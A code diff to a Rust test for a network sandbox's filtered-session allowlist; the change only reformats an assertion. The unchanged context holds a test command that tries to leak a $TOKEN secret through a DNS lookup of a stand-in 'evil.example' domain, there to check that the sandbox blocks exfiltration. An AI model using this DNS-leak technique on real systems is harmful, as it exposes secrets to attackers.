@@ -790,7 +790,11 @@ fn filtered_session_keeps_its_allowlist_and_logs_its_decisions() {
     let exec = |script: &str| nsbox(&["exec", "--session", &id, "--", "sh", "-c", script]);
 
     let first = exec("curl -sS -m 5 http://web.allowed.example/");
-    assert_eq!(first.stdout.trim(), "hello from the fake internet", "{first:?}");
+    assert_eq!(
+        first.stdout.trim(),
+        "hello from the fake internet",
+        "{first:?}"
+    );
     let second = exec(
         "getent hosts other.example; echo getent=$?; getent hosts $TOKEN.evil.example; echo secret=$?",
     );
